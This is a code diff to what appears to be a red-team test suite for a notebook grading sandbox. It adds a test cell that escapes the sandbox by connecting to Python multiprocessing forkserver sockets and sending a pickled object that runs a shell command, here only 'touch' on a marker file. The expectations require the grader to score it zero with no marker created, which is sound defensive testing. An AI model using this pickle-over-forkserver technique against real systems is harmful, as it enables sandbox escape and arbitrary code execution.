@@ -276,6 +276,7 @@ for p in [pathlib.Path.home() / "rt-pwned-own-home.txt", {str(home_marker)!r},
         "decorator_runs_code": {"cells": {**w, "scaled_tanh": DECORATOR}},
         "globals_of_a_test": {"cells": {**w, "scaled_tanh": GLOBALS_WALK}},
         "proc_self_mem": {"cells": {**w, "scaled_tanh": PROC_MEM}},
+        "forkserver_socket": {"cells": {**w, "scaled_tanh": forkserver_attack(out.parent / f"rt-pwned-forkserver-{token}")}},
         # ---- feedback: hidden-test source, encoded; huge output; the coordinator
         "hidden_source_encoded": {"cells": {**c, "train": c["train"] + ENCODED_DUMP}, "checkpoint": "good"},
         "huge_output": {"cells": {**c, "train": "print('x' * (64 * 2**20))"}, "checkpoint": "good"},
@@ -447,6 +448,59 @@ def scaled_tanh(x, a):
         pass
     return np.zeros_like(x)
 '''
+FORKSERVER = '''
+import glob, os, pickle, socket
+from multiprocessing import reduction
+
+class _Touch:  # unpickled by the forkserver's child, outside the sandbox: it would run this
+    def __reduce__(self):
+        return (os.system, ("touch " + {marker!r},))
+
+def _grader_sockets():
+    """Every Unix socket this process can name: multiprocessing's forkserver listeners (rnn-grade
+    forks its grading processes from one) and whatever /proc/net/unix lists, abstract ones too."""
+    found = glob.glob("/tmp/pymp-*/listener-*") + glob.glob("/tmp/*/pymp-*/listener-*") + {extra!r}
+    try:
+        for line in open("/proc/net/unix").read().splitlines()[1:]:
+            if len(line.split()) >= 8:
+                found.append(line.split()[7])
+    except OSError:
+        pass
+    return found
+
+def _ask_for_a_child(path):
+    """multiprocessing's forkserver protocol: two pipe ends over SCM_RIGHTS, then the pickled
+    preparation data on the pipe, which the forked child unpickles before anything else."""
+    with socket.socket(socket.AF_UNIX) as s:
+        s.settimeout(2)
+        s.connect("\\0" + path[1:] if path.startswith("@") else path)
+        parent_r, child_w = os.pipe()
+        child_r, parent_w = os.pipe()
+        reduction.sendfds(s, [child_r, child_w, child_r, child_r])
+        os.write(parent_w, pickle.dumps(_Touch()))
+        os.close(parent_w)
+
+def scaled_tanh(x, a):
+    paths = _grader_sockets()
+    for path in paths:
+        try:
+            _ask_for_a_child(path)
+            print("FORKSERVER-SENT", path)
+        except OSError as e:
+            print("FORKSERVER-BLOCKED", path, type(e).__name__)
+    print("FORKSERVER-TRIED", len(paths))
+    return np.zeros_like(x)
+
+scaled_tanh(np.zeros(1), 1.0)
+'''
+
+
+def forkserver_attack(marker: Path, extra: tuple[str, ...] = ()) -> str:
+    """A cell that asks every forkserver it can reach to run ``touch MARKER`` (``extra``: socket
+    paths to try besides those it finds; tests/test_batch_units.py shows the attack works)."""
+    return FORKSERVER.format(marker=str(marker), extra=list(extra))
+
+
 ENCODED_DUMP = '''
 import base64
 import codecs
@@ -511,6 +565,7 @@ EXPECT = {  # (min score, max score, flagged: True/False/None = either, text tha
     "decorator_runs_code": (0, 0, True, ""),
     "globals_of_a_test": (0, 0, True, ""),
     "proc_self_mem": (0, 0, None, ""),
+    "forkserver_socket": (0, 0, None, ""),  # and no marker file: tests/test_batch_redteam.py
     "hidden_source_encoded": (0, 20, None, ""),  # what matters: no hidden line, even decoded
     "huge_output": (20, 20, False, ""),  # 64 MiB printed: cut to the grader's cap
     "nested_json": (0, 0, False, "not a valid notebook"),
